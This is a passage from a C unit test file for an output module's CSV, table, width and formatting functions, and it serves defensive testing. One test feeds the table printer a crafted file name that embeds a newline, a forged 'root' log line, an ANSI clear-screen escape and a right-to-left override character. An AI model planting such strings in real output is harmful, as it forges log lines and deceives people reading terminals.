	const char *fields[1] = {in};

	ck_assert_ptr_nonnull(in);
	for (size_t i = 0; i < n; i++)
		in[i] = "\",\n"[i % 3];
	in[n] = '\0';
	out = csv_record(fields, 1, &len);
	/* the quotes doubled, two around, CRLF */
	ck_assert_uint_eq(len, n + (n + 2) / 3 + 2 + 2);
	ck_assert_int_eq(csv_parse(out, len, parsed, 1), 1);
	ck_assert_str_eq(parsed[0], in);
	free(parsed[0]);
	free(out);
	free(in);
}
END_TEST

/* ---- width, tables, out_fmt ---------------------------------------------- */

START_TEST(width)
{
	ck_assert_uint_eq(out_width(""), 0);
	ck_assert_uint_eq(out_width("abc"), 3);
	ck_assert_uint_eq(out_width("\xc3\xa5\xc3\xa4\xc3\xb6"), 3);
	ck_assert_uint_eq(out_width("K\xc3\xa4ll"), 4);
	ck_assert_uint_eq(out_width("\\x1b\\u202e"), 10);
}
END_TEST

static char *table_text(const struct out_table *t)
{
	char *out = NULL;
	size_t len;
	FILE *f = open_memstream(&out, &len);

	ck_assert_ptr_nonnull(f);
	out_table_print(t, f);
	ck_assert_int_eq(fclose(f), 0);
	return out;
}

static char **row3(const char *a, const char *b, const char *c)
{
	static char *cells[3];

	cells[0] = a ? strdup(a) : NULL;
	cells[1] = b ? strdup(b) : NULL;
	cells[2] = c ? strdup(c) : NULL;
	return cells;
}

START_TEST(table_layout)
{
	static const char *const headers[] = {"NAME", "N", "NOTE"};
	struct out_table *t = out_table_new(3, headers, "lrl");
	char *text;

	ck_assert_ptr_nonnull(t);
	ck_assert_int_eq(out_table_add(t, row3("a", "1", "x")), 0);
	ck_assert_int_eq(out_table_add(t, row3("K\xc3\xa4llor", "1234", NULL)), 0);
	ck_assert_int_eq(out_table_add(t, row3(NULL, NULL, NULL)), 0);
	ck_assert_uint_eq(out_table_rows(t), 3);
	text = table_text(t);
	ck_assert_str_eq(text, "NAME       N  NOTE\n"
			       "a          1  x\n"
			       "K\xc3\xa4llor  1234\n"
			       "\n");
	free(text);
	ck_assert_ptr_null(out_table_free(t));
	ck_assert_ptr_null(out_table_free(NULL));
}
END_TEST

START_TEST(table_hostile_cells_stay_on_their_line)
{
	static const char *const headers[] = {"PATH", "USER", "DETAIL"};
	struct out_table *t = out_table_new(3, headers, "lll");
	const char *name = "a\n2026-01-01  root  \x1b[2Jfake\r\xe2\x80\xae";
	char *cells_path, *text, *line, *save = NULL;
	int lines = 0;

	ck_assert_ptr_nonnull(t);
	cells_path = term_n(name, strlen(name));
	{
		char *cells[3] = {cells_path, strdup("bob"), strdup("x")};

		ck_assert_int_eq(out_table_add(t, cells), 0);
	}
	text = table_text(t);
	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		ck_assert(terminal_safe(line));
		lines++;
	}
	ck_assert_int_eq(lines, 2);
	free(text);
	out_table_free(t);
}
END_TEST

START_TEST(table_limits)
{
	static const char *const headers[OUT_TABLE_MAX_COLS + 1] = {
	    "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q",
	};
	struct out_table *t;
	char *text;

	ck_assert_ptr_null(out_table_new(0, headers, ""));
	ck_assert_ptr_null(out_table_new(OUT_TABLE_MAX_COLS + 1, headers, "lllllllllllllllll"));
	t = out_table_new(OUT_TABLE_MAX_COLS, headers, "llllllllllllllll");
	ck_assert_ptr_nonnull(t);
	out_table_free(t);

	/* rows beyond the first allocation */
	t = out_table_new(3, headers, "lll");
	ck_assert_ptr_nonnull(t);
	for (int i = 0; i < 1000; i++)
		ck_assert_int_eq(out_table_add(t, row3("x", i % 2 ? "yy" : NULL, "z")), 0);
	ck_assert_uint_eq(out_table_rows(t), 1000);
	text = table_text(t);
	ck_assert_ptr_nonnull(strstr(text, "a  b   c\nx      z\nx  yy  z\n"));
	free(text);
	out_table_free(t);
}
END_TEST

START_TEST(fmt)
{
	char *s = out_fmt("%s=%d", "n", 42);

	ck_assert_str_eq(s, "n=42");
	free(s);
	s = out_fmt("%s", "");
	ck_assert_str_eq(s, "");
	free(s);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("out");
	TCase *term = tcase_create("terminal");
	TCase *utf8 = tcase_create("utf8-json");
	TCase *csv = tcase_create("csv");
	TCase *table = tcase_create("table");

	tcase_add_test(term, term_c0_controls);
	tcase_add_test(term, term_escape_sequences);
	tcase_add_test(term, term_del);
	tcase_add_test(term, term_c1_as_utf8);
	tcase_add_test(term, term_c1_as_raw_bytes);
	tcase_add_test(term, term_invalid_utf8);
	tcase_add_test(term, term_valid_boundaries_pass);
	tcase_add_test(term, term_bidi_controls);
	tcase_add_test(term, term_invisible_characters);
	tcase_add_test(term, term_backslash_is_unambiguous);
	tcase_add_test(term, term_nul_and_bytes_after_it);
	tcase_add_test(term, empty);
	tcase_add_test(term, term_every_code_point);
	tcase_add_test(term, term_every_byte_pair);
	tcase_add_test(term, term_random);
	tcase_add_test(term, very_long);
	suite_add_tcase(s, term);
	tcase_add_test(utf8, utf8_replaces_invalid_and_nul);
	tcase_add_test(utf8, utf8_every_code_point_and_byte);
	tcase_add_test(utf8, utf8_random);
	tcase_add_test(utf8, json_strings);
	suite_add_tcase(s, utf8);
	tcase_add_test(csv, csv_quoting);
	tcase_add_test(csv, csv_text_neutralises_formulas);
	tcase_add_test(csv, csv_text_escapes_controls);
	tcase_add_test(csv, csv_separators);
	tcase_add_test(csv, csv_roundtrip);
	tcase_add_test(csv, csv_long_field);
	suite_add_tcase(s, csv);
	tcase_add_test(table, width);
	tcase_add_test(table, table_layout);
	tcase_add_test(table, table_hostile_cells_stay_on_their_line);
	tcase_add_test(table, table_limits);
	tcase_add_test(table, fmt);
	suite_add_tcase(s, table);
	return tu_run(s);
}
